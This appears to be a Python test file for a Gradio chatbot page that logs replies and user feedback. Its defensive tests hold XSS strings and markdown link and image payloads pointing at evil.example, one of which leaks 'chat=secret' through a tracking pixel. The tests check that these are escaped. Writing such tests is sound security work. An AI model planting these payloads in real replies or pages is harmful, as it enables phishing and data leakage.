"""The chat page: handlers called as plain functions, and the running page
driven with gradio_client."""

from types import SimpleNamespace

import gradio as gr
import pytest
from gradio_client import Client

from chatbot.policy import Policy
from chatbot.ui import ChatUI, display, new_state


def request(session="browser-1", user=None):
    return SimpleNamespace(session_hash=session, username=user)


@pytest.fixture
def ui(tiny_loaded, store, chat_options):
    return ChatUI(Policy(tiny_loaded), store, chat_options)


def send(ui, text, state, req=None, **settings):
    args = (settings.get("max_new_tokens", 8), settings.get("temperature", 1.0), settings.get("system", ""))
    outputs = list(ui.respond(text, state, *args, req or request()))
    return outputs, outputs[-1][2]


def like(ui, state, index, liked, req=None):
    state, _ = ui.like(gr.LikeData(None, {"index": index, "value": "", "liked": liked}), state, req or request())
    return state


def test_a_message_streams_and_is_logged_with_session_and_version(ui, store):
    outputs, state = send(ui, "Hello", new_state())
    assert len(outputs) >= 2  # the user's message first, then the reply as it grows
    (turn,) = state["turns"]
    (reply,) = turn["replies"]
    row = store.get_response(reply["id"])
    assert row["reply"] == reply["text"] and row["model_version"] == "v0"
    assert row["session_id"] == "web-browser-1" and row["user"] is None
    assert row["prompt"] == [{"role": "user", "content": "Hello"}]
    shown = display(state)
    assert shown[0]["content"] == "Hello"
    assert shown[1]["content"].endswith("<sub>model v0</sub>")


def test_thumbs_switching_and_taking_back_are_new_rows(ui, store):
    _, state = send(ui, "Hello", new_state())
    rid = state["turns"][0]["replies"][0]["id"]
    for liked in (True, False, ""):
        state = like(ui, state, 1, liked)
    assert [(r["response_id"], r["value"]) for r in store.feedback_since(0)] == [(rid, 1), (rid, -1), (rid, 0)]


def test_a_comment_goes_with_the_rated_reply_and_keeps_the_vote(ui, store):
    _, state = send(ui, "Hello", new_state())
    _, state = send(ui, "How are you?", state)
    first = state["turns"][0]["replies"][0]["id"]
    state = like(ui, state, 1, False)
    box, state = ui.comment("  say hello back  ", state, request())
    assert box == ""
    last = store.feedback_since(0)[-1]
    assert (last["response_id"], last["value"], last["comment"]) == (first, -1, "say hello back")
    assert store.unpaired_examples()[0]["label"] is False


def test_regenerate_keeps_every_alternative_and_thumbs_make_a_pair(ui, store):
    _, state = send(ui, "Hello", new_state())
    state = like(ui, state, 1, True)
    outputs = list(ui.regenerate(gr.RetryData(None, {"index": 0, "value": "Hello"}), state, 8, 1.0, "", request()))
    state = outputs[-1][2]
    replies = state["turns"][0]["replies"]
    assert len(replies) == 2 and state["turns"][0]["shown"] == 1
    state = like(ui, state, 1, False)
    rows = {r["response_id"]: r["value"] for r in store.feedback_since(0)}
    assert rows == {replies[0]["id"]: 1, replies[1]["id"]: -1}
    assert store.get_response(replies[0]["id"])["prompt_hash"] == store.get_response(replies[1]["id"])["prompt_hash"]
    if replies[0]["text"] != replies[1]["text"]:
        (pair,) = store.preference_pairs()
        assert pair["chosen"][0]["content"] == replies[0]["text"]
        assert pair["rejected"][0]["content"] == replies[1]["text"]


def test_the_second_turn_sees_the_first(ui, store):
    _, state = send(ui, "Hello", new_state())
    _, state = send(ui, "How are you?", state, system="Be brief.")
    first_reply = state["turns"][0]["replies"][0]["text"]
    row = store.get_response(state["turns"][1]["replies"][0]["id"])
    assert row["prompt"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Hello"},
        {"role": "assistant", "content": first_reply},
        {"role": "user", "content": "How are you?"},
    ]
    assert store.counts()["conversations"] == 1


def test_logged_in_user_is_recorded(ui, store):
    _, state = send(ui, "Hello", new_state(), req=request(user="ann"))
    like(ui, state, 1, True, req=request(user="ann"))
    assert store.get_response(state["turns"][0]["replies"][0]["id"])["user"] == "ann"
    assert store.feedback_since(0)[0]["user"] == "ann"


def test_empty_message_is_ignored_and_long_one_refused(ui, store):
    outputs, state = send(ui, "   ", new_state())
    assert state["turns"] == [] and store.counts()["responses"] == 0
    with pytest.warns(UserWarning, match="limit"):
        outputs, state = send(ui, "x" * 501, new_state())
    assert state["turns"] == [] and store.counts()["responses"] == 0
    assert outputs[-1][0]["value"] == "x" * 501  # the text is kept for editing


def test_html_is_shown_as_text():
    state = {**new_state(), "turns": [{"user": "<script>alert(1)</script>", "shown": 0,
                                         "replies": [{"id": "r", "text": "<img src=x onerror=alert(1)>",
                                                      "version": "v0"}]}]}
    user, bot = display(state)
    assert "<script>" not in user["content"] and "&lt;script&gt;" in user["content"]
    assert "<img" not in bot["content"] and "&lt;img" in bot["content"]


def test_reload_restores_the_conversation_and_votes(ui, store):
    _, state = send(ui, "Hello", new_state())
    like(ui, state, 1, False)
    shown, restored = ui.restore(state, request(session="a-new-tab"))
    assert restored["session_id"] == state["session_id"]  # the browser keeps its session id
    assert shown["value"] == display(state)
    assert shown["feedback_value"] == ["Dislike"]


def test_stop_ends_the_reply_early_and_logs_it_as_stopped(ui, store):
    state = new_state()
    stream = ui.respond("Hello", state, 60, 1.0, "", request())
    next(stream), next(stream)  # the user's message, then the first piece
    ui.stop(state, request())
    *_, last = stream
    rid = last[2]["turns"][0]["replies"][0]["id"]
    assert store.get_response(rid)["finish_reason"] in ("stopped", "stop")


def test_page_end_to_end_with_gradio_client(server, store):
    client = Client(server.url + "/", verbose=False)
    box, chat = client.predict("Hello", 8, 1.0, "", api_name="/chat")
    assert box == ""
    messages = chat["value"]
    assert messages[0]["content"][0]["text"] == "Hello"
    assert "model v0" in messages[1]["content"][0]["text"]
    box, chat = client.predict("How are you?", 8, 1.0, "", api_name="/chat")
    assert len(chat["value"]) == 4
    assert client.predict("too short", api_name="/comment") == ""
    with store.connection() as db:
        rows = list(db.query("SELECT * FROM responses ORDER BY created_at"))
    assert len(rows) == 2 and len({r["conversation_id"] for r in rows}) == 1
    (fb,) = store.feedback_since(0)
    assert (fb["response_id"], fb["value"], fb["comment"]) == (rows[1]["id"], 0, "too short")
    client.predict(api_name="/new_chat")
    client.predict("Hi", 8, 1.0, "", api_name="/chat")
    assert store.counts()["conversations"] == 2


LINKS = [
    "[your account](https://evil.example/login)",
    "![status](https://evil.example/pixel.png?chat=secret)",
    "[your account][1]\n\n[1]: https://evil.example/login",
    "[your account][]\n\n[your account]: https://evil.example/login",
    "[your account]\n\n[your account]: https://evil.example/login 'Your bank'",
]


@pytest.mark.parametrize("text", LINKS)
def test_markdown_links_in_replies_are_shown_not_followed(text):
    from markdown_it import MarkdownIt

    state = {**new_state(), "turns": [{"user": text, "shown": 0,
                                       "replies": [{"id": "r", "text": text, "version": "v0"}]}]}
    markdown = MarkdownIt("commonmark")
    raw = markdown.render(text)
    assert raw.count("<a ") + raw.count("<img") == 1  # as written, a hidden link
    for message in display(state):
        shown = markdown.render(message["content"])
        assert "<a " not in shown and "<img" not in shown, shown
        assert "evil.example" in shown  # the address stays visible


def test_text_without_links_is_shown_unchanged():
    text = "a[0] = b[1]; see [note] and (this): done"
    assert display({**new_state(), "turns": [{"user": text, "shown": 0, "replies": []}]})[0]["content"] == text
